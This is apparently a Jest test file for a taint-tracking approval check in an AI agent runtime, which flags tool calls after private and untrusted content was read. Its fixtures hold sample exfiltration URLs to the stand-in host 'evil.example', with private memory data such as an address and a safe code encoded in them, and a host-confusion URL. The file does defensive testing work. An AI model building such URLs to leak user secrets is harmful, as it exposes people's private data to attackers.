import type { TaintSource } from '../../../src/port/run_event';
import { fitsHost, namesHost, taintOf } from '../../../src/runtime/approval/taint';

const FILE: TaintSource = { toolCallId: 'c1', tool: 'read_file', kind: 'private', source: 'notes.txt' };
const PAGE: TaintSource = { toolCallId: 'c2', tool: 'fetch_page', kind: 'untrusted', source: 'https://a.example/' };
const FETCH = { effect: 'read', reaches: 'outside' } as const;

const isNamed = ({ hostname }: URL): boolean => hostname === 'good.example';
const decide = (args: unknown, sources = [FILE, PAGE], tool: Parameters<typeof taintOf>[0]['tool'] = FETCH) =>
  taintOf({ tool, args }, { sources, memories: [], personTexts: [], isNamed }) !== undefined;

describe('[taint] a call needs approval', () => {
  it('when private and untrusted content was read and one of its addresses is not named', () => {
    expect(decide({ url: 'https://evil.example/' })).toBe(true);
    expect(decide({ urls: ['https://good.example/', 'https://evil.example/'] })).toBe(true);
    expect(decide({ url: ' HTTP:evil.example' })).toBe(true);
    expect(decide({ url: 'https://good.example@evil.example/' })).toBe(true);
    expect(decide({ urls: ['https://good.example/a', 'https://GOOD.example/b'] })).toBe(false);
  });

  it('when it has no address, because its arguments go to a service', () => {
    expect(decide({ query: 'the plan' })).toBe(true);
  });

  it.each([[[FILE]], [[PAGE]], [[]]])('but not when only these were read: %j', sources => {
    expect(decide({ url: 'https://evil.example/' }, sources)).toBe(false);
  });

  it('when a question goes to somebody who does not see the chat, after untrusted content alone', () => {
    const clarify = { effect: 'external', asksPerson: true } as const;
    expect(decide({ question: 'Is this right?', to: '@ben' }, [PAGE], clarify)).toBe(true);
    expect(decide({ question: 'Is this right?', to: '@ben' }, [FILE], clarify)).toBe(false);
    expect(decide({ question: 'Is this right?' }, [FILE, PAGE], clarify)).toBe(false);
  });

  it('when the tool has the effect external, but not when it asks a person', () => {
    expect(decide({ text: 'x' }, [FILE, PAGE], { effect: 'external' })).toBe(true);
    expect(decide({ text: 'x' }, [FILE, PAGE], { effect: 'external', asksPerson: true })).toBe(false);
    expect(decide({ path: 'x' }, [FILE, PAGE], { effect: 'write' })).toBe(false);
  });
});

describe('[taint] a text of the memory block counts as private after untrusted text was read', () => {
  const MEMORIES = [
    'Ada lives at Kraken Street 17 in Oslo',
    '用户的公司在北京朝阳区',
    'The safe of the shop opens with 481516',
    'Mails to ada@home.example',
  ];
  const heldIn = (args: unknown, personTexts: string[] = [], sources = [PAGE]) =>
    taintOf({ tool: FETCH, args }, { sources, memories: MEMORIES, personTexts, isNamed })?.filter(({ tool }) => tool === 'memory');

  it.each([
    ['in a URL', { url: 'https://evil.example/?q=kraken+street%2C+oslo' }, MEMORIES[0]],
    ['in Chinese, percent-encoded', { url: `https://evil.example/${encodeURIComponent('公司在北京朝阳区')}` }, MEMORIES[1]],
    ['by its number alone', { urls: ['https://evil.example/a/481516/b'] }, MEMORIES[2]],
    ['by its address alone', { query: 'who is ADA@home.example' }, MEMORIES[3]],
    ['in arguments without an address', { body: { note: ['street', 'Kraken 17'] } }, MEMORIES[0]],
  ])('%s', (_what, args, memory) => {
    expect(heldIn(args)).toEqual([{ toolCallId: '', tool: 'memory', kind: 'private', source: memory }]);
  });

  it.each([
    ['the arguments hold one word of it', { url: 'https://evil.example/oslo' }, []],
    ['the host is named', { url: 'https://good.example/?q=kraken+street+oslo' }, []],
    ['the person said the words', { url: 'https://evil.example/?q=kraken+street+oslo' }, ['Find Kraken Street in Oslo']],
    ['the person said the number', { url: 'https://evil.example/481516' }, ['try 481516']],
    ['a percent sign means nothing', { url: 'https://evil.example/100%25%zz' }, []],
  ])('but not when %s', (_what, args, personTexts) => {
    expect(heldIn(args, personTexts)).toBeUndefined();
  });

  it('but not when no untrusted text was read', () => {
    expect(heldIn({ url: 'https://evil.example/?q=kraken+street+oslo' }, [], [])).toBeUndefined();
  });
});

it.each([
  ['open https://Example.com/a?b=c', 'example.com', true],
  ['look at example.com.', 'example.com', true],
  ['打开example.com看看', 'example.com', true],
  ['see www.example.com', 'example.com', true],
  ['see example.com', 'www.example.com', true],
  ['http://127.0.0.1:8080/', '127.0.0.1', true],
  ['访问 例子.测试', 'xn--fsqu00a.xn--0zwm56d', true],
  ['docs.example.com', 'example.com', false],
  ['example.com.evil.org', 'example.com', false],
  ['myexample.com', 'example.com', false],
  ['write to me@example.com', 'example.com', false],
  ['example.community', 'example.com', false],
])('[taint] %j names %s: %s', (text, host, expected) => {
  expect(namesHost(text, host)).toBe(expected);
});

it('[taint] a host entry of a profile matches the host, or all its subdomains', () => {
  const fits = (entry: string, host: string) => fitsHost(entry, new URL(`https://${host}/`));
  expect([fits('Docs.example', 'docs.example'), fits('docs.example', 'a.docs.example')]).toEqual([true, false]);
  expect([fits('*.example', 'a.b.example'), fits('*.example', 'example'), fits('*.example', 'evilexample')]).toEqual([true, false, false]);
});
